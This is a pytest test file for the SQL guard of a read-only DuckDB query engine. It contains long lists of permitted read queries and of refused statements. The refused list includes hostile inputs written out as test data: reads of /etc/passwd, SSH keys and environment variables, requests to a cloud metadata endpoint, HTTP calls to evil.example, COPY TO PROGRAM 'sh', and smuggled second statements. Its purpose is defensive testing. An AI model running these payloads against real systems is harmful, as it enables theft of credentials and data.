"""Only one plain read of the dataset may run; everything else is refused by name."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from lexsi_nb import datasets
from lexsi_nb.data.engine import Engine
from lexsi_nb.data.guard import check
from lexsi_nb.errors import LexsiError, RefusedSQL

READS = """
SELECT 1
select * from loan
SELECT status, count(*) AS n FROM loan GROUP BY ALL ORDER BY n DESC
FROM loan
FROM loan SELECT amount
WITH a AS (SELECT 1 AS x) SELECT * FROM a
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r
VALUES (1, 2), (3, 4)
DESCRIBE loan
DESCRIBE SELECT 1
SUMMARIZE loan
SHOW TABLES
SHOW ALL TABLES
SHOW loan
TABLE loan
(SELECT 1)
SELECT * EXCLUDE (status) FROM loan
SELECT * REPLACE (amount / 1000 AS amount) FROM loan
SELECT COLUMNS('A[0-9]+') FROM district
SELECT amount FROM loan QUALIFY row_number() OVER (PARTITION BY status ORDER BY amount) = 1
SELECT count(*) FILTER (WHERE status = 'B') FROM loan
SELECT * FROM "order" WHERE k_symbol = 'SANKC. UROK'
SELECT 'drop table loan; delete from loan' AS words
SELECT 1 -- ; drop table loan
SELECT /* delete from loan */ 1
SELECT replace(status, 'A', 'B'), set_bit('0101'::BIT, 1, 1) FROM loan
SELECT loan.update, load_date FROM (SELECT 1 AS update, 2 AS load_date) loan
SELECT * FROM range(10)
SELECT * FROM generate_series(1, 3)
SELECT unnest([1, 2, 3])
SELECT * FROM unnest([1, 2, 3])
SELECT list_transform([1, 2], x -> x + 1)
SELECT {'a': 1}.a
SELECT * FROM loan TABLESAMPLE 10%
SELECT * FROM loan USING SAMPLE 10
SELECT * FROM loan ASOF JOIN trans ON loan.account_id = trans.account_id AND loan.date >= trans.date
SELECT * FROM loan POSITIONAL JOIN card
SELECT * FROM loan, LATERAL (SELECT loan.amount + 1)
SELECT date_trunc('month', date), strftime(date, '%Y') FROM loan
SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3
SELECT CASE WHEN amount > 1 THEN 'set x' ELSE 'pragma' END FROM loan
PIVOT loan ON status IN ('A', 'B') USING count(*)
UNPIVOT loan ON amount, duration INTO NAME k VALUE v
SELECT * FROM (PIVOT loan ON status IN ('A', 'B') USING count(*))
SELECT "getenv" FROM (SELECT 1 AS getenv)
SELECT 1;
SELECT 1; -- done
SELECT * FROM information_schema.tables
SELECT regexp_replace(status, 'A', 'B') FROM loan
SELECT quantile_cont(amount, [0.25, 0.5]) FROM loan
SELECT * FROM "Prodej 1997"
SELECT $$; DROP TABLE loan; $$ AS words
SELECT * FROM loan WHERE status = 'it''s; DROP TABLE loan'
SELECT "a;b" FROM (SELECT 1 AS "a;b")
/* one */ SELECT /* two */ 1 -- three
WITH a AS MATERIALIZED (SELECT 1 AS x) FROM a
SELECT * FROM workspace.kept
SELECT sum(amount) OVER w FROM loan WINDOW w AS (ORDER BY date)
SELECT status, count(*) FROM loan GROUP BY ROLLUP (status)
WITH pg_sales AS (SELECT 1 AS x), b AS (FROM pg_sales) SELECT * FROM b, pg_sales
WITH "a.csv" AS (SELECT 1 AS x) SELECT * FROM "a.csv"
SELECT column_name FROM information_schema.columns
SELECT * FROM workspace.duckdb_sales
/* outer /* inner */ SELECT * FROM read_text('x') */ SELECT 1
""".strip().splitlines()

# Statement -> a word that the refusal has to name.
REFUSED = """
INSERT INTO loan VALUES (1) | INSERT
INSERT OR REPLACE INTO loan SELECT * FROM loan | INSERT
UPDATE loan SET amount = 0 | UPDATE
DELETE FROM loan | DELETE
TRUNCATE loan | TRUNCATE
MERGE INTO loan USING card ON true WHEN MATCHED THEN DELETE | MERGE
CREATE TABLE x AS SELECT 1 | CREATE
CREATE OR REPLACE VIEW x AS SELECT 1 | CREATE
CREATE TEMP TABLE x (a INT) | CREATE
CREATE MACRO f(x) AS x + 1 | CREATE
CREATE SECRET s (TYPE s3) | CREATE
CREATE SCHEMA s | CREATE
CREATE SEQUENCE s | CREATE
CREATE TYPE t AS ENUM ('a') | CREATE
CREATE INDEX i ON loan (amount) | CREATE
DROP TABLE loan | DROP
DROP VIEW IF EXISTS loan | DROP
ALTER TABLE loan ADD COLUMN x INT | ALTER
COMMENT ON TABLE loan IS 'x' | COMMENT
COPY loan TO 'x.csv' | COPY
COPY loan FROM 'x.csv' | COPY
COPY (SELECT 1) TO 'x.parquet' (FORMAT parquet) | COPY
COPY FROM DATABASE a TO b | COPY
EXPORT DATABASE 'x' | EXPORT
IMPORT DATABASE 'x' | IMPORT
ATTACH 'x.duckdb' | ATTACH
ATTACH 'x.duckdb' AS x (READ_ONLY) | ATTACH
DETACH x | DETACH
USE x | USE
INSTALL httpfs | INSTALL
FORCE INSTALL httpfs | FORCE
LOAD httpfs | LOAD
UPDATE EXTENSIONS | UPDATE
SET threads = 1 | SET
SET VARIABLE x = 1 | SET
RESET threads | RESET
PRAGMA database_list | PRAGMA
PRAGMA enable_profiling | PRAGMA
CALL duckdb_secrets() | CALL
CHECKPOINT | CHECKPOINT
FORCE CHECKPOINT | FORCE
VACUUM | VACUUM
ANALYZE | ANALYZE
BEGIN | BEGIN
BEGIN TRANSACTION | BEGIN
COMMIT | COMMIT
ROLLBACK | ROLLBACK
PREPARE p AS SELECT 1 | PREPARE
EXECUTE p | EXECUTE
DEALLOCATE p | DEALLOCATE
EXPLAIN SELECT 1 | EXPLAIN
EXPLAIN ANALYZE SELECT 1 | EXPLAIN ANALYZE
EXPLAIN ANALYZE DELETE FROM loan | EXPLAIN ANALYZE
GRANT ALL ON loan TO x | GRANT
WITH x AS (INSERT INTO loan VALUES (1) RETURNING *) SELECT * FROM x | INSERT
WITH x AS (DELETE FROM loan RETURNING *) SELECT * FROM x | DELETE
WITH x AS (UPDATE loan SET amount = 0 RETURNING *) SELECT * FROM x | UPDATE
WITH x AS (SELECT 1) DELETE FROM loan | DELETE
WITH x AS (SELECT 1) INSERT INTO loan SELECT * FROM x | INSERT
SELECT * INTO y FROM loan | INTO
SELECT 1; SELECT 2 | second statement
SELECT 1; DROP TABLE loan | second statement
SELECT 1;; DELETE FROM loan | second statement
/* a */ DROP TABLE loan | DROP
-- a comment | empty
SELECT * FROM 'x.csv' | x.csv
FROM 'x.parquet' | x.parquet
SELECT * FROM "x.csv" | x.csv
SELECT * FROM '/etc/passwd' | /etc/passwd
SELECT * FROM "https://example.com/x.parquet" | https
SELECT * FROM 's3://bucket/*' | s3
SELECT * FROM read_csv('x.csv') | read_csv
SELECT * FROM read_csv_auto('x.csv') | read_csv
SELECT * FROM READ_CSV('x.csv') | read_csv
SELECT * FROM main.read_csv('x.csv') | read_csv
SELECT * FROM system.main.read_parquet('x') | read_parquet
SELECT * FROM read_parquet('x.parquet') | read_parquet
SELECT * FROM read_json('x.json') | read_json
SELECT * FROM read_json_auto('x.json') | read_json
SELECT * FROM read_ndjson_objects('x.json') | read_ndjson
SELECT * FROM read_text('/etc/passwd') | read_text
SELECT * FROM read_blob('/etc/passwd') | read_blob
SELECT * FROM read_xlsx('x.xlsx') | read_xlsx
SELECT * FROM read_duckdb('x.duckdb') | read_duckdb
SELECT * FROM parquet_scan('x') | parquet_scan
SELECT * FROM parquet_metadata('x') | parquet_metadata
SELECT * FROM parquet_schema('x') | parquet_schema
SELECT * FROM sniff_csv('x.csv') | sniff_csv
SELECT * FROM glob('*') | glob
SELECT * FROM sqlite_scan('x.db', 't') | sqlite_scan
SELECT * FROM postgres_scan('', 'a', 'b') | postgres_scan
SELECT * FROM postgres_query('db', 'DROP TABLE x') | postgres_query
SELECT * FROM mysql_query('db', 'x') | mysql_query
SELECT * FROM arrow_scan(1, 2, 3) | arrow_scan
SELECT * FROM pandas_scan(1) | pandas_scan
SELECT * FROM seq_scan('loan') | seq_scan
SELECT * FROM iceberg_scan('x') | iceberg_scan
SELECT * FROM delta_scan('x') | delta_scan
SELECT * FROM st_read('x.shp') | st_read
SELECT * FROM query('DROP TABLE loan') | query
SELECT * FROM query_table('loan') | query_table
SELECT * FROM json_execute_serialized_sql('x') | json_execute
SELECT * FROM load_aws_credentials() | load_aws
SELECT * FROM unheard_of_function() | unheard_of_function
SELECT getenv('HOME') | getenv
SELECT (SELECT getenv('HOME')) | getenv
SELECT * FROM loan WHERE status = getenv('X') | getenv
WITH x AS (SELECT * FROM read_csv('x')) SELECT * FROM x | read_csv
SELECT * FROM loan WHERE EXISTS (FROM 'x.csv') | x.csv
SELECT * FROM loan JOIN read_text('x') r ON true | read_text
SELECT * FROM loan UNION ALL SELECT * FROM 'x.csv' | x.csv
SELECT current_setting('home_directory') | current_setting
SELECT getvariable('x') | getvariable
SELECT nextval('s') | nextval
SELECT * FROM duckdb_secrets() | duckdb_secrets
SELECT * FROM duckdb_secrets | duckdb_secrets
FROM which_secret('s3://x', 's3') | which_secret
SELECT * FROM duckdb_settings() | duckdb_settings
SELECT * FROM duckdb_logs | duckdb_logs
SELECT * FROM pragma_database_list | pragma_database_list
SELECT * FROM pragma_storage_info('loan') | pragma_storage_info
SELECT write_log('x') | write_log
SUMMARIZE 'x.csv' | x.csv
SUMMARIZE read_csv('x.csv') | read_csv
DESCRIBE 'x.csv' | x.csv
DESCRIBE FROM 'x.csv' | x.csv
DESCRIBE DELETE FROM loan | DELETE
PIVOT 'x.csv' ON a IN (1) USING count(*) | x.csv
UNPIVOT 'x.csv' ON a | x.csv
SHOW SECRETS | SECRETS
SHOW 'x.csv' | x.csv
VALUES ((FROM 'x.csv')) | x.csv
SELECT * FROM "read_csv"('x.csv') | read_csv
SELECT * FROM main."read_csv"('x.csv') | read_csv
SELECT "getenv"('HOME') | getenv
SELECT 'HOME'.getenv() | getenv
SELECT * FROM x.csv | x.csv
SELECT * FROM LATERAL read_csv('x') | read_csv
SELECT * FROM loan LIMIT (SELECT count(*) FROM 'x.csv') | x.csv
SELECT list_transform([1], x -> getenv('A')) | getenv
SELECT * FROM pg_catalog.pg_settings | pg_settings
SELECT * FROM loan FOR UPDATE | FOR UPDATE
SELECT sleep_ms(1000) | sleep_ms
SELECT * FROM "file:///etc/passwd" | file
hello world | hello
DROP | DROP
ATTACH ':memory:' AS other | ATTACH
ATTACH 'https://example.com/x.duckdb' | ATTACH
ATTACH IF NOT EXISTS 'x.duckdb' | ATTACH
INSTALL spatial FROM community | INSTALL
LOAD 'x.duckdb_extension' | LOAD
SET SESSION threads = 1 | SET
SET GLOBAL enable_external_access = true | SET
SET search_path = 'other' | SET
RESET GLOBAL threads | RESET
PRAGMA memory_limit = '1GB' | PRAGMA
PRAGMA table_info('loan') | PRAGMA
PRAGMA version | PRAGMA
CALL pragma_table_info('loan') | CALL
CALL enable_logging() | CALL
START TRANSACTION | START
ABORT | ABORT
VACUUM ANALYZE | VACUUM
ANALYZE loan | ANALYZE
CREATE PERSISTENT SECRET s (TYPE s3) | CREATE
CREATE TABLE y AS FROM read_csv('x.csv') | CREATE
CREATE OR REPLACE TABLE loan AS SELECT 1 | CREATE
CREATE TABLE workspace.y AS SELECT 1 | CREATE
INSERT INTO workspace.y VALUES (1) | INSERT
DROP SCHEMA main CASCADE | DROP
DROP TABLE IF EXISTS loan, card | DROP
EXPLAIN (FORMAT json) SELECT 1 | EXPLAIN
EXPLAIN ANALYZE INSERT INTO loan SELECT * FROM loan | EXPLAIN ANALYZE
EXPLAIN COPY loan TO 'y.csv' | EXPLAIN
PREPARE p AS DELETE FROM loan | PREPARE
EXECUTE p(1) | EXECUTE
COPY loan TO 's3://bucket/x.parquet' | COPY
COPY (FROM 'x.csv') TO 'y.csv' | COPY
SELECT 1; ; SELECT 2 | second statement
SELECT 1; SET threads = 1 | second statement
SELECT 1; COPY loan TO 'y.csv' | second statement
SELECT 1 /* a */; DROP TABLE loan | second statement
WITH x AS (MERGE INTO loan USING card ON true WHEN MATCHED THEN DELETE) SELECT * FROM x | MERGE
WITH x AS (SELECT 1), y AS (FROM 'x.csv') SELECT * FROM x, y | x.csv
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r, read_text('x')) FROM r | read_text
SELECT * FROM (SELECT * FROM (SELECT * FROM 'x.parquet')) | x.parquet
SELECT (FROM read_text('/etc/passwd') SELECT content) | read_text
SELECT * FROM loan ORDER BY (SELECT count(*) FROM read_blob('*')) | read_blob
SELECT * FROM loan QUALIFY row_number() OVER (ORDER BY getenv('A')) = 1 | getenv
SELECT CASE WHEN EXISTS (FROM glob('/*')) THEN 1 END | glob
SELECT * FROM parquet_file_metadata('x.parquet') | parquet_file_metadata
SELECT * FROM read_json_objects('x.json') | read_json
SELECT * FROM read_csv(['x.csv', 'y.csv']) | read_csv
SELECT * FROM read_parquet('s3://bucket/*.parquet', hive_partitioning = true) | read_parquet
SELECT * FROM "x.db" | x.db
SELECT * FROM 'x.xlsx' | x.xlsx
SELECT * FROM 'gs://bucket/x' | gs
FROM '~/.ssh/id_rsa' | id_rsa
SELECT * FROM duckdb_variables() | duckdb_variables
SELECT * FROM duckdb_extensions() | duckdb_extensions
SELECT set_config('threads', '1', false) | set_config
TABLE 'x.csv' | cannot be read
DROP TABLE loan; | DROP
SELECT sql FROM duckdb_views | duckdb_views
SELECT sql FROM duckdb_tables() | duckdb_tables
SELECT view_definition FROM information_schema.views | views
SELECT sql FROM sqlite_master | sqlite_master
SELECT * FROM sqlite_schema | sqlite_schema
SELECT definition FROM pg_catalog.pg_views | pg_views
SELECT * FROM pg_views | pg_views
SELECT * FROM pg_catalog.pg_proc | pg_proc
SELECT path FROM duckdb_databases | duckdb_databases
SELECT * FROM system.main.duckdb_views | duckdb_views
WITH duckdb_secrets AS (SELECT * FROM duckdb_secrets) FROM duckdb_secrets | duckdb_secrets
WITH a AS (WITH pg_views AS (SELECT 1) FROM pg_views) SELECT * FROM pg_views | pg_views
WITH "x.csv" AS (FROM "x.csv") FROM "x.csv" | x.csv
WITH a AS (FROM b), "x.csv" AS (SELECT 1), b AS (SELECT 1) SELECT * FROM (FROM "y.csv") | y.csv
SELECT pg_get_viewdef(1) | pg_get_viewdef
SELECT start_ui() | start_ui
CALL start_ui() | CALL
SELECT * FROM pragma_table_info('loan') | pragma_table_info
SELECT * FROM pragma_database_size() | pragma_database_size
SELECT * FROM system.main.duckdb_settings() | duckdb_settings
SELECT * FROM "duckdb_secrets"() | duckdb_secrets
SELECT * FROM query_table(['loan']) | query_table
WITH c AS (COPY loan TO 'y.csv') SELECT * FROM c | COPY
WITH c AS NOT MATERIALIZED (FROM 'x.csv') FROM c | x.csv
EXPLAIN ANALYZE COPY loan TO 'y.csv' | EXPLAIN ANALYZE
PREPARE p AS COPY loan TO 'y.csv' | PREPARE
ATTACH 'postgres:host=evil' AS e (TYPE postgres) | ATTACH
SET VARIABLE a = (SELECT content FROM read_text('/etc/passwd')) | SET
SELECT * FROM parquet_kv_metadata('x.parquet') | parquet_kv_metadata
SELECT * FROM parquet_bloom_probe('x.parquet', 'a', 1) | parquet_bloom_probe
SELECT * FROM "http://169.254.169.254/latest/meta-data" | http
SELECT * FROM 'hf://datasets/x/y.parquet' | hf
SELECT * FROM 'az://b/x.parquet' | az
SELECT $tag$ ; $tag$ FROM read_text($$/etc/passwd$$) | read_text
FROM read_text($$/etc/passwd$$) | read_text
SELECT * FROM read_text(E'\\x2fetc/passwd') | read_text
SELECT $$a$$; DROP TABLE loan | second statement
/* a /* b */ DROP TABLE loan; */ SELECT 1; DROP TABLE loan | second statement
SELECT * FROM read_text/**/('x') | read_text
CREATE MACRO m() AS TABLE FROM read_text('x') | CREATE
CREATE OR REPLACE FUNCTION workspace.f() AS TABLE FROM read_text('x') | CREATE
CREATE TEMP MACRO m(x) AS getenv(x) | CREATE
INSTALL httpfs FROM 'http://evil.example' | INSTALL
SELECT list_transform(['HOME'], lambda x: getenv(x)) | getenv
SELECT apply(['HOME'], x -> getenv(x)) | getenv
SELECT (VALUES (getenv('HOME'))) | getenv
SELECT * REPLACE (getenv('HOME') AS status) FROM loan | getenv
SELECT sum(amount) FILTER (WHERE getenv('A') = '') FROM loan | getenv
SELECT amount FROM loan GROUP BY ALL HAVING getenv('A') = '' | getenv
SELECT * FROM loan WHERE status IN (FROM 'x.csv') | x.csv
SELECT * FROM (DESCRIBE 'x.csv') | x.csv
SELECT * FROM (SUMMARIZE 'x.csv') | x.csv
SUMMARIZE (FROM read_csv('x.csv')) | read_csv
PIVOT (FROM 'x.csv') ON a IN (1) USING count(*) | x.csv
UNPIVOT (FROM 'x.csv') ON a INTO NAME n VALUE v | x.csv
VALUES (getenv('HOME')) | getenv
SHOW TABLES FROM 'x.csv' | x.csv
BEGIN; DROP TABLE loan; COMMIT | BEGIN
SELECT 1 WHERE 1 = 1; ATTACH ':memory:' | second statement
SELECT 1 UNION (DELETE FROM loan RETURNING 1) | DELETE
SELECT * FROM (INSERT INTO loan VALUES (1) RETURNING *) | INSERT
SELECT * FROM loan SEMI JOIN 'x.parquet' USING (loan_id) | x.parquet
SELECT * FROM unnest((SELECT list(content) FROM read_text('x'))) | read_text
SELECT * FROM range((SELECT count(*) FROM read_text('x'))) | read_text
SELECT * FROM json_each((SELECT content FROM read_text('x'))) | read_text
SELECT * FROM '/proc/self/environ' | environ
COPY (SELECT 1) TO '/dev/stdout' | COPY
COPY (SELECT 1) TO PROGRAM 'sh' | COPY
SELECT * FROM iceberg_metadata('x') | iceberg_metadata
SELECT * FROM ducklake_snapshots('x') | ducklake_snapshots
SELECT * FROM sqlite_attach('x.db') | sqlite_attach
SELECT * FROM shell('ls') | shell
SELECT * FROM http_get('http://evil.example') | http_get
SELECT http_post('http://evil.example', {}, {}) | http_post
CALL dbgen(sf=0.01) | CALL
SELECT * FROM dbgen(sf=0.01) | dbgen
USE workspace | USE
SET custom_extension_repository = 'http://evil.example' | SET
CREATE SECRET (TYPE http, BEARER_TOKEN 'x') | CREATE
DROP SECRET x | DROP
SELECT 1 INTO workspace.y | INTO
LISTEN x | LISTEN
SELECT * FROM repeat_row(1, num_rows = 3) | repeat_row
SELECT * FROM test_all_types() | test_all_types
DO $$ BEGIN END $$ | DO
""".strip().splitlines()


@pytest.mark.parametrize("sql", READS)
def test_plain_read_passes_unchanged(sql: str) -> None:
    assert check(sql) in (sql, sql.split(";")[0], sql.rstrip(";"))


@pytest.mark.parametrize("row", REFUSED)
def test_anything_else_is_refused_by_name(row: str) -> None:
    sql, word = row.rsplit(" | ", 1)
    with pytest.raises(RefusedSQL) as caught:
        check(sql)
    assert word.casefold() in str(caught.value).casefold()


# Stays inside the engine's own memory, where DuckDB's lock has nothing against it; the guard alone refuses it.
INSIDE = (
    "CREATE", "DROP", "COMMENT", "PRAGMA", "CHECKPOINT", "FORCE", "VACUUM", "ANALYZE", "BEGIN", "START", "PREPARE",
    "DEALLOCATE", "EXPLAIN", "ABORT", "USE",
)  # fmt: skip
HARMLESS = (
    "second statement", "empty", "query_table", "current_setting", "getvariable", "duckdb_", "pragma_", "pg_settings",
    "write_log", "sleep_ms", "pg_", "sqlite_", "views", "repeat_row", "test_all_types",
)  # fmt: skip
REACHING = [
    row for row in REFUSED
    if not row.startswith(INSIDE)
    and not row.startswith(("SET VARIABLE", "CALL", "INSERT INTO", "ATTACH ':memory:'"))
    and not any(word in row.rsplit(" | ", 1)[1] for word in HARMLESS)
]  # fmt: skip


@pytest.fixture(scope="module")
def bare_engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """An engine over one small table, in a folder with files that would be there to read."""
    folder, before = tmp_path_factory.mktemp("bare"), Path.cwd()
    os.chdir(folder)
    frame = pd.DataFrame({"loan_id": [1], "amount": [1], "status": ["A"]})
    frame.to_csv("x.csv", index=False)
    frame.to_csv("y.csv", index=False)
    frame.to_parquet("x.parquet")
    frame.to_json("x.json", orient="records")
    with duckdb.connect("x.duckdb") as con:
        con.execute("CREATE TABLE loan AS FROM 'x.csv'")
    (folder / "loan").mkdir()
    frame.to_csv("loan/loan.csv", index=False)
    engine = Engine(datasets.open(folder / "loan"))
    yield engine
    engine.close()
    os.chdir(before)


@pytest.mark.parametrize("row", REACHING)
def test_what_reaches_outside_is_refused_by_the_engines_lock_as_well(bare_engine: Engine, row: str) -> None:
    before = sorted((p, p.stat().st_mtime_ns) for p in Path().rglob("*"))
    with pytest.raises(duckdb.Error):  # past the guard, on DuckDB's own connection
        bare_engine._con.execute(row.rsplit(" | ", 1)[0]).fetchall()
    assert sorted((p, p.stat().st_mtime_ns) for p in Path().rglob("*")) == before


def test_the_lock_itself_cannot_be_taken_off(bare_engine: Engine) -> None:
    for sql in (
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "RESET lock_configuration",
        "SET allowed_paths = ['/']",
        "SET allowed_directories = ['/']",
        "SET temp_directory = '/'",
        "SET memory_limit = '1TB'",
        "PRAGMA enable_external_access = true",
    ):
        with pytest.raises(duckdb.Error):
            bare_engine._con.execute(sql)
    with pytest.raises(duckdb.Error):
        bare_engine._con.execute("FROM 'x.csv'")


@pytest.mark.parametrize("sql", [*(r.rsplit(" | ", 1)[0] for r in REFUSED), "/* /* */ SELECT 1 */ DROP VIEW loan"])
def test_nothing_that_is_refused_passes_the_engine(bare_engine: Engine, sql: str) -> None:
    with pytest.raises(LexsiError):
        bare_engine.query(sql)
    assert bare_engine.query("FROM loan").amount[0] == 1


def test_corpus_is_large_enough() -> None:
    assert len(READS) + len(REFUSED) >= 150


@pytest.mark.parametrize("sql", ["", "   ", ";", ";;"])
def test_empty_sql_is_refused(sql: str) -> None:
    with pytest.raises(RefusedSQL, match="empty"):
        check(sql)


@pytest.mark.parametrize(
    "sql", ["SELECT ';' AS s; -- done; SELECT 2", "SELECT ';' AS s ; /* a; */", "SELECT ';' AS s;;"]
)
def test_what_follows_a_semicolon_as_a_comment_is_no_second_statement(bare_engine: Engine, sql: str) -> None:
    assert check(sql) == "SELECT ';' AS s"
    assert bare_engine.query(sql).s[0] == ";"


def test_known_table_may_be_called_like_a_file() -> None:
    assert check('SELECT * FROM "sales.csv"', frozenset({"sales.csv"}))
    with pytest.raises(RefusedSQL, match=r"other\.csv"):
        check('SELECT * FROM "sales.csv" JOIN "other.csv" ON true', frozenset({"sales.csv"}))


def test_broken_sql_says_where() -> None:
    with pytest.raises(RefusedSQL, match="cannot be read"):
        check("SELECT FROM WHERE")


def test_refusal_says_what_why_and_next() -> None:
    with pytest.raises(RefusedSQL) as caught:
        check("SELECT 1; DELETE FROM loan")
    assert all((caught.value.what, caught.value.why, caught.value.next))


def test_no_warning_reaches_the_log(caplog: pytest.LogCaptureFixture) -> None:
    check("SHOW loan")
    assert caplog.records == []
